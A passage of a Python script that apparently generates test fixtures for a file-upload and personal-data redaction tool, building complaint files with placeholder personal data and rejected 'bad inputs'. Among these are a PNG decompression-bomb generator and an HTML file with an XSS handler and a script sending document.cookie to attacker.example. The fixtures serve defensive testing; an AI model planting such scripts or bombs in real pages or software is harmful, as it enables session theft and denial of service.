2024-04-28|Purchase|{resp_en}|{merchant}|-199.00|REF2024042800008|IBAN {iban_grouped}|{card}
"""
    )
    _write_csv(path, header, rows, bom=False)
    return entry(
        "csv",
        [
            NAME,
            NAME_PINYIN,
            PHONE,
            PHONE_SPACED,
            CARD,
            CARD_GROUPED,
            CARD_DASHED,
            IBAN,
            IBAN_GROUPED,
            EMAIL,
            WECHAT,
        ],
        [*header, RESPONDENT_EN, MERCHANT_NO, "REF2024042800008", "-199.00"],
        "UTF-8 without BOM, CRLF, 8 rows. The brief's 7 headers plus an 8th column 'Card' "
        "(card number compact, grouped, dashed; one masked '6222 **** **** 0128' which may stay). "
        "Account holds the IBAN, '+86 138 1234 5678' and the e-mail; Note holds the phone, "
        "WeChat id and grouped IBAN.",
    )


def make_statement_txt(path: Path) -> dict:
    text = f"""投诉材料：会员费重复扣款

本人{NAME}（身份证号 {RIC}），手机 {PHONE_SPACED}，于2024年4月3日在{RESPONDENT}
的应用内购买年度会员，金额199.00元，订单号 {ORDER_NO}。同一天被扣款两次，之后每月自动续费。
扣款银行卡为 {CARD_GROUPED}，支付宝账号 {ALIPAY}，微信号 {WECHAT}。
客服答应三个工作日内退款，至今未到账。请联系 {EMAIL} 或拨打 {PHONE_DASHED}。

Complaint summary (English)

My name is {NAME_PINYIN} ({NAME}). On 3 April 2024 {RESPONDENT} charged my card {CARD} twice
for the same annual membership (199.00 CNY, order {ORDER_NO}). Refunds can be sent to my UK
account IBAN {IBAN_GROUPED} ({IBAN}) or to Alipay {ALIPAY}. You can reach me at {EMAIL},
on WeChat ({WECHAT}) or by phone on +86 {PHONE} / {PHONE_SPACED}. ID number: {RIC}.
"""
    path.write_text(text, encoding="utf-8", newline="\n")
    return entry(
        "text",
        [
            NAME,
            NAME_PINYIN,
            RIC,
            PHONE,
            PHONE_SPACED,
            PHONE_DASHED,
            CARD,
            CARD_GROUPED,
            ALIPAY,
            WECHAT,
            EMAIL,
            IBAN,
            IBAN_GROUPED,
        ],
        ["会员费重复扣款", "199.00", ORDER_NO, RESPONDENT, "Complaint summary"],
        "UTF-8, LF. Chinese paragraph then English paragraph; values appear in running text "
        "right next to Chinese characters (no word boundary), with spaces and dashes.",
    )


# --- Bad inputs ----------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_corrupt_png(path: Path) -> dict:
    rnd = random.Random(7)
    img = Image.frombytes("RGB", (256, 256), rnd.randbytes(256 * 256 * 3))  # noise: a big IDAT
    buf = io.BytesIO()
    img.save(buf, "PNG")
    data = buf.getvalue()
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    path.write_bytes(data[: idat + 4 + length // 2])
    return bad("corrupt", "Valid 256x256 noise PNG cut in the middle of its IDAT (no IEND).")


def make_bomb_png(path: Path) -> dict:
    w = h = 30000
    row = b"\x00" * (1 + (w + 7) // 8)  # filter byte + 1-bit pixels
    comp = zlib.compressobj(9)
    parts = [comp.compress(row) for _ in range(h)]
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)  # 1-bit greyscale
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(parts))
        + _png_chunk(b"IEND", b"")
    )
    return bad(
        "bomb",
        "Valid 1-bit PNG declaring 30000x30000 (900 Mpx, one colour). About 109 KB: deflate "
        "tops out near 1032:1 and the raw rows are 112.5 MB, so 30000x30000 cannot be under "
        "100 KB. Decoding it to RGB would need 2.7 GB.",
    )


def make_polyglot_gif(path: Path) -> dict:
    img = Image.new("P", (64, 64), 0)
    img.putpalette([255, 255, 255, 0, 0, 0] + [0] * 762)
    ImageDraw.Draw(img).rectangle((16, 16, 48, 48), fill=1)
    img.save(path, "GIF")
    _append_zip(path, "payload.txt", f"PLANTED-POLYGLOT {PHONE}\n".encode())
    return bad(
        "polyglot",
        "64x64 GIF with a ZIP (payload.txt: PLANTED-POLYGLOT + phone) after the trailer; "
        "absolute offsets, so both GIF decoders and unzip accept it. GIF is not an accepted "
        "type: reject.",
    )


def make_unknown_bin(path: Path) -> dict:
    header = (
        b"\x7fELF\x02\x01\x01\x00"
        + b"\x00" * 8
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )
    path.write_bytes(header + random.Random(42).randbytes(1024))
    return bad("unknown", "64-byte x86-64 ELF executable header followed by 1 KB of seeded noise.")


def make_html_as_png(path: Path) -> dict:
    path.write_text(
        "<!DOCTYPE html>\n<html><head><title>evidence</title></head><body>\n"
        "<img src=x onerror=\"alert('PLANTED-SCRIPT')\">\n"
        "<script>document.location='https://attacker.example/?c='+document.cookie</script>\n"
        "</body></html>\n",
        encoding="utf-8",
    )
    return bad("mismatch", "HTML with <script> and an onerror handler, named .png.")


def make_empty_txt(path: Path) -> dict:
    path.write_bytes(b"")
    return bad("unknown", "0 bytes: nothing to identify; reject as empty.")


BUILDERS = {
    "photo_exif_gps.jpg": make_photo,
    "chunks.png": make_chunks_png,
    "xmp.webp": make_webp,
    "screenshot_zh.png": make_screenshot_zh,
    "screenshot_wechat.png": make_screenshot_wechat,
    "statement.pdf": make_pdf,
    "account_export.csv": make_account_csv,
    "account_export_en.csv": make_account_csv_en,
    "statement.txt": make_statement_txt,
    "polyglot.png": make_polyglot_png,
    "corrupt.png": make_corrupt_png,
    "bomb.png": make_bomb_png,
    "polyglot.gif": make_polyglot_gif,
    "unknown.bin": make_unknown_bin,
    "html_as.png": make_html_as_png,
    "empty.txt": make_empty_txt,
}


def main() -> None:
    check_constants()
    manifest = {}
    for name, build in BUILDERS.items():
        path = HERE / name
        path.unlink(missing_ok=True)
        manifest[name] = build(path)
        info = manifest[name]
        # A "visible" string must never contain a planted one (the test would contradict itself).
        for v in info.get("visible", []):
            clash = [p for p in info["planted"] if p in v or v in p]
            assert not clash, (name, v, clash)
        print(f"{name:24} {path.stat().st_size:>8} bytes")
    (HERE / "planted.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
    )


if __name__ == "__main__":
    main()
